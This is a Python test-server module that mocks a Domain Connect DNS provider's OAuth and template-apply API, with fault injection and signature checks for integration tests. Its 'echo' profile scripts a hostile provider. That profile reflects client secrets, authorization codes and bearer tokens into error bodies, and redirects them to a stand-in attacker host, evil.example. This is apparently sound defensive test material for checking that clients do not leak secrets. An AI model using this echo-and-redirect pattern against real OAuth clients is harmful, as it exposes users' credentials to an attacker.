"""DNS-provider routes for the HTTPS test server (httpsd.py --routes
provider_routes --config provider_config.json): a small Domain Connect DNS
Provider API that the discovery and OAuth integration suites talk to.

Routes (each may sit under one of config["prefixes"], e.g. "/dc/v1"):

  GET  /v2/{zone}/settings
       config["settings"][zone] as JSON; config["zone_faults"][zone] selects
       a fault instead: "404", "500", "badjson" (200, not JSON), "huge"
       (200, 1 MiB chunked, no Content-Length), "redirect" (302). Any other
       zone: 404 (docs/protocol.md §1.3: the provider does not host it).
  GET  /v2/domainTemplates/providers/{p}/services/{s}
       a template of config["templates"]: 200 {"version": N}, or 200 with an
       empty body when its version is null; else 404.
  POST /v2/oauth/access_token
       parameters from the query, a JSON body or a form body (merged;
       docs/protocol.md §3.3). Clients: config["clients"][client_id]["secret"]
       (unknown client or wrong secret: 401 invalid_client). Grants:
       authorization_code with a one-time code of config["codes"] (unknown,
       used, other client, other redirect_uri: 400 invalid_grant), and
       refresh_token (unknown or rotated away: 400 invalid_grant; with the
       client's "rotate" a new refresh token replaces the old one, else none
       is returned and the old one stays valid).
  POST /v2/domainTemplates/providers/{p}/services/{s}/apply and .../revert
       Authorization: Bearer (unknown, revoked or expired: 401);
       parameters from the query or a JSON body; domain required (400) and
       equal to the code's domain (401 otherwise). Behaviour by serviceId
       (config["apply_behaviours"]): apply 204 (default), 202 with an empty
       body, 200 with a JSON body, 409 with config["conflict_body"] unless
       force is 1/true (then 204), "409-badbody" (409, not JSON), 400 with an
       OAuth-style error; revert 501 when configured, else 204 when the
       template was applied to that domain/host (instanceId-aware), else 410.
  POST /_admin/revoke   {"access_token": T} revokes T (stands in for the
       user revoking access in the provider's UI, docs/protocol.md §3.7).

Profiles (config["profiles"][prefix], the prefix also listed in
config["prefixes"]): the same routes under a prefix behave as a provider
that reads its parameters one way only:
  "apply_params": "query"  apply/revert parameters from the query ONLY
                 "body"   from a JSON body ONLY (else: both, merged)
  "refresh_creds": "query" a refresh's client_id/client_secret from the
                 query ONLY (401 invalid_client otherwise), as the provider
                 the reference client had to satisfy
  "verify_sig": FILE       apply must carry key and sig in its query; the
                 signature over the rest of the query (as sent) is checked
                 with openssl and the public key FILE (tests/data/vectors);
                 missing or bad: 400 invalid_request
  "echo": true             a scripted hostile provider that echoes the
                 secrets it receives (client secret and code or refresh
                 token at the token endpoint; the bearer token at apply and
                 revert) in its answer, chosen by the code's / refresh
                 token's / serviceId's mode prefix ("MODE." or "echo-MODE"):
                 loc (302, secrets in the Location path, upper-cased and
                 percent-encoded too), upper, split (across error and
                 error_description), ctl (a control byte inside), cut (at the
                 160-byte cut of error_description), c409 (a 409 body
                 echoing the bearer token in message and record data).

State (codes used, tokens, applied templates) lives in memory per server
process, inside the config dict httpsd passes to every call.
"""
import base64
import json
import os
import secrets
import subprocess
import tempfile
import threading
import time
import urllib.parse

_LOCK = threading.Lock()
HERE = os.path.dirname(os.path.abspath(__file__))


def _state(config):
    st = config.get("_state")
    if st is None:
        st = {"used_codes": set(), "access": {}, "refresh": {}, "applied": set()}
        config["_state"] = st
    return st


def _split_prefix2(path, config):
    """(prefix, path with the prefix removed), or (None, None)."""
    for pre in sorted(config.get("prefixes", [""]), key=len, reverse=True):
        if pre and path.startswith(pre + "/v2/"):
            return pre, path[len(pre):]
        if not pre and path.startswith("/v2/"):
            return "", path
    return None, None


def _split_prefix(path, config):
    """Returns the path with a configured prefix removed, or None."""
    return _split_prefix2(path, config)[1]


def _params_only(query, headers, body, where):
    """Parameters from one place only: "query" or "body" (JSON)."""
    if where == "query":
        return {k: v[-1] for k, v in query.items()}
    return _params({}, headers, body) if body else {}


# ---- the scripted hostile provider (profile "echo")

def _echo_mode(value):
    for mode in ("loc", "upper", "split", "ctl", "cut", "c409"):
        if value.startswith(mode + ".") or value.startswith("echo-" + mode):
            return mode
    return "upper"


def _echo(h, mode, secret_list):
    """Answers with every secret of secret_list echoed as `mode` says."""
    sl = [s for s in secret_list if s]
    if mode == "loc":
        path = "/".join([s for s in sl] + [s.upper() for s in sl] +
                        ["".join("%%%02X" % ord(ch) for ch in s) for s in sl])
        h.send_json(302, {"moved": True},
                    [("Location", "https://evil.example/" + path + "?x=" + sl[0])])
        return True
    if mode == "split":
        # the second half of each secret opens the description; the first
        # ends the error code: each half alone is a piece of its own
        err = sl[0][:len(sl[0]) // 2]
        desc = sl[0][len(sl[0]) // 2:] + " and " + " ".join(sl[1:])
        h.send_json(400, {"error": err, "error_description": desc})
        return True
    if mode == "ctl":
        desc = " ".join(s[:5] + "\x01" + s[5:] for s in sl)
        h.send_json(400, {"error": "invalid_request", "error_description": desc})
        return True
    if mode == "cut":
        # the first secret straddles the 160-byte cut of error_description
        pad = "p" * (160 - len(sl[0]) // 2)
        h.send_json(400, {"error": "invalid_request",
                          "error_description": pad + sl[0] + " " + " ".join(sl[1:])})
        return True
    if mode == "c409":
        h.send_json(409, {"code": "409", "message": "conflict with " + sl[0],
                          "records": [{"type": "TXT", "host": sl[0][:12],
                                       "data": sl[0].upper()},
                                      {"type": "A", "host": "@", "data": sl[0]}]})
        return True
    h.send_json(400, {"error": "invalid_request",
                      "error_description": "echo " + " ".join(s.upper() for s in sl)})
    return True


def _echo_token(h, query, headers, body):
    p = _params(query, headers, body) or {}
    grant = p.get("code") or p.get("refresh_token") or ""
    return _echo(h, _echo_mode(grant), [p.get("client_secret", ""), grant])


def _echo_bearer(h, service, headers):
    auth = headers.get("authorization", "")
    tok = auth[7:].strip() if auth.lower().startswith("bearer ") else ""
    return _echo(h, _echo_mode(service), [tok])


# ---- signature check (profile "verify_sig")

def _sig_problem(raw_query, pubkey):
    """None when the query carries a valid key/sig pair, else why not."""
    pairs = raw_query.split("&") if raw_query else []
    sig = [p[4:] for p in pairs if p.startswith("sig=")]
    key = [p[4:] for p in pairs if p.startswith("key=")]
    if len(sig) != 1 or len(key) != 1:
        return "signature missing"
    signed = "&".join(p for p in pairs
                      if not p.startswith("sig=") and not p.startswith("key="))
    try:
        raw = base64.b64decode(urllib.parse.unquote(sig[0]), validate=True)
    except ValueError:
        return "signature is not base64"
    with tempfile.NamedTemporaryFile() as f:
        f.write(raw)
        f.flush()
        r = subprocess.run(["openssl", "dgst", "-sha256", "-verify",
                            os.path.join(HERE, "..", "data", "vectors", pubkey),
                            "-signature", f.name], input=signed.encode(),
                           capture_output=True, check=False)
    return None if r.returncode == 0 else "signature invalid"


def _params(query, headers, body):
    """Merged parameters: query first, then a JSON or form body."""
    out = {k: v[-1] for k, v in query.items()}
    if body:
        ctype = headers.get("content-type", "").split(";")[0].strip().lower()
        if ctype == "application/x-www-form-urlencoded":
            for k, v in urllib.parse.parse_qs(body.decode("utf-8", "replace"),
                                              keep_blank_values=True).items():
                out[k] = v[-1]
        else:
            try:
                doc = json.loads(body.decode("utf-8"))
            except (ValueError, UnicodeDecodeError):
                return None
            if not isinstance(doc, dict):
                return None
            for k, v in doc.items():
                out[k] = v
    return out


def _settings(h, zone, config):
    fault = config.get("zone_faults", {}).get(zone)
    if h.send_settings_fault(fault):
        pass
    elif fault == "huge":
        h.send_response(200)
        h.send_header("Content-Type", "application/json")
        h.send_header("Transfer-Encoding", "chunked")
        h.end_headers()
        chunk = b" " * 8192
        try:
            for _ in range((1 << 20) // len(chunk)):
                h.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
            h.wfile.write(b"0\r\n\r\n")
        except (BrokenPipeError, ConnectionResetError, OSError):
            h.close_connection = True
    elif fault == "redirect":
        h.send_json(302, {"moved": True},
                    [("Location", "https://api2.provider.test/v2/%s/settings" % zone)])
    elif zone in config.get("settings", {}):
        h.send_json(200, config["settings"][zone])
    else:
        h.send_json(404, {"error": "zone not hosted here"})
    return True


def _template(h, provider, service, config):
    for t in config.get("templates", []):
        if t["providerId"] == provider and t["serviceId"] == service:
            if t.get("version") is None:
                h.send_bytes(200, b"", None)
            else:
                h.send_json(200, {"version": t["version"]})
            return True
    h.send_json(404, {"error": "template not supported"})
    return True


def _oauth_error(h, status, error, desc):
    h.send_json(status, {"error": error, "error_description": desc})
    return True


def _issue(config, st, client_id, domain, rotate_from=None):
    life = int(config["clients"][client_id].get("token_lifetime",
                                                config.get("token_lifetime", 3600)))
    access = "at-" + secrets.token_urlsafe(24)
    st["access"][access] = {"client_id": client_id, "domain": domain,
                            "expires": time.time() + life, "revoked": False}
    resp = {"access_token": access, "token_type": "Bearer", "expires_in": life}
    rotate = config["clients"][client_id].get("rotate", True)
    if rotate_from is None or rotate:
        refresh = "rt-" + secrets.token_urlsafe(24)
        st["refresh"][refresh] = {"client_id": client_id, "domain": domain}
        resp["refresh_token"] = refresh
        if rotate_from is not None:
            del st["refresh"][rotate_from]
    return resp


def _token(h, query, headers, body, config, profile=None):
    profile = profile or {}
    if profile.get("echo"):
        return _echo_token(h, query, headers, body)
    p = _params(query, headers, body)
    if p is None:
        return _oauth_error(h, 400, "invalid_request", "body is not JSON")
    clients = config.get("clients", {})
    cred = p
    if profile.get("refresh_creds") == "query" and p.get("grant_type") == "refresh_token":
        cred = {k: v[-1] for k, v in query.items()}
    cid = cred.get("client_id")
    if cid not in clients or cred.get("client_secret") != clients[cid]["secret"]:
        return _oauth_error(h, 401, "invalid_client", "client authentication failed")
    if "code" in p and "refresh_token" in p:
        return _oauth_error(h, 400, "invalid_request", "code and refresh_token together")
    grant = p.get("grant_type")
    with _LOCK:
        st = _state(config)
        if grant == "authorization_code":
            code = p.get("code")
            info = config.get("codes", {}).get(code)
            if info is None or code in st["used_codes"]:
                return _oauth_error(h, 400, "invalid_grant",
                                    "authorization code unknown or already used")
            if info["client_id"] != cid:
                return _oauth_error(h, 400, "invalid_grant", "code issued to another client")
            if "redirect_uri" in info and p.get("redirect_uri") != info["redirect_uri"]:
                return _oauth_error(h, 400, "invalid_grant", "redirect_uri mismatch")
            st["used_codes"].add(code)
            resp = _issue(config, st, cid, info.get("domain"))
        elif grant == "refresh_token":
            rt = p.get("refresh_token")
            info = st["refresh"].get(rt)
            if info is None or info["client_id"] != cid:
                return _oauth_error(h, 400, "invalid_grant",
                                    "refresh token unknown, revoked or rotated")
            resp = _issue(config, st, cid, info["domain"], rotate_from=rt)
        else:
            return _oauth_error(h, 400, "unsupported_grant_type", "grant_type")
    h.send_json(200, resp, [("Cache-Control", "no-store")])
    return True


def _bearer(headers, st):
    auth = headers.get("authorization", "")
    if not auth.lower().startswith("bearer "):
        return None
    info = st["access"].get(auth[7:].strip())
    if info is None or info["revoked"] or info["expires"] < time.time():
        return None
    return info


def _apply_or_revert(h, provider, service, op, query, headers, body, config,
                     profile=None):
    profile = profile or {}
    if profile.get("echo"):
        return _echo_bearer(h, service, headers)
    with _LOCK:
        info = _bearer(headers, _state(config))
    if info is None:
        h.send_json(401, {"error": "invalid_token",
                          "error_description": "token unknown, expired or revoked"},
                    [("WWW-Authenticate", 'Bearer error="invalid_token"')])
        return True
    if profile.get("apply_params") in ("query", "body"):
        p = _params_only(query, headers, body, profile["apply_params"])
    else:
        p = _params(query, headers, body)
    if p is None or not isinstance(p.get("domain"), str) or not p["domain"]:
        return _oauth_error(h, 400, "invalid_request", "domain missing")
    if op == "apply" and profile.get("verify_sig"):
        why = _sig_problem(h.raw_query, profile["verify_sig"])
        if why is not None:
            return _oauth_error(h, 400, "invalid_request", why)
    if info.get("domain") and p["domain"] != info["domain"]:
        return _oauth_error(h, 401, "access_denied", "domain not authorized")
    beh = config.get("apply_behaviours", {}).get(service, {})
    key = (provider, service, p["domain"], p.get("host", ""), p.get("instanceId", ""))
    if op == "revert":
        if beh.get("revert") == 501:
            h.send_json(501, {"error": "revert not implemented"})
            return True
        with _LOCK:
            st = _state(config)
            hit = [k for k in st["applied"] if k[:4] == key[:4] and
                   (not p.get("instanceId") or k[4] == key[4])]
            for k in hit:
                st["applied"].discard(k)
        if not hit:
            h.send_json(410, {"error": "template not applied"})
            return True
        h.send_response(204)
        h.end_headers()
        return True
    mode = beh.get("apply", 204)
    force = str(p.get("force", "0")).lower() in ("1", "true")
    if mode == 409 and not force:
        h.send_json(409, config.get("conflict_body", {"code": "409"}))
        return True
    if mode == "409-badbody" and not force:
        h.send_bytes(409, b"<html>conflict</html>", "text/html")
        return True
    if mode == 400:
        return _oauth_error(h, 400, "invalid_request", "a template variable is missing")
    with _LOCK:
        _state(config)["applied"].add(key)
    if mode == 202:
        h.send_bytes(202, b"", None)
    elif mode == 200:
        h.send_json(200, {"result": "applied"})
    else:
        h.send_response(204)
        h.end_headers()
    return True


def handle(handler, method, path, query, headers, body, config):
    if method == "POST" and path == "/_admin/revoke":
        try:
            tok = json.loads(body.decode("utf-8"))["access_token"]
        except (ValueError, KeyError, TypeError, UnicodeDecodeError):
            handler.send_json(400, {"error": "access_token required"})
            return True
        with _LOCK:
            info = _state(config)["access"].get(tok)
            if info is not None:
                info["revoked"] = True
        handler.send_json(200 if info else 404, {"revoked": info is not None})
        return True
    pre, rest = _split_prefix2(path, config)
    if rest is None:
        return False
    profile = config.get("profiles", {}).get(pre)
    parts = rest.split("/")  # ["", "v2", ...]
    if method == "GET" and len(parts) == 4 and parts[3] == "settings":
        return _settings(handler, urllib.parse.unquote(parts[2]), config)
    if (len(parts) >= 7 and parts[2] == "domainTemplates" and parts[3] == "providers"
            and parts[5] == "services"):
        provider, service = parts[4], parts[6]
        if method == "GET" and len(parts) == 7:
            return _template(handler, provider, service, config)
        if method == "POST" and len(parts) == 8 and parts[7] in ("apply", "revert"):
            return _apply_or_revert(handler, provider, service, parts[7], query,
                                    headers, body, config, profile)
        return False
    if method == "POST" and rest == "/v2/oauth/access_token":
        return _token(handler, query, headers, body, config, profile)
    return False
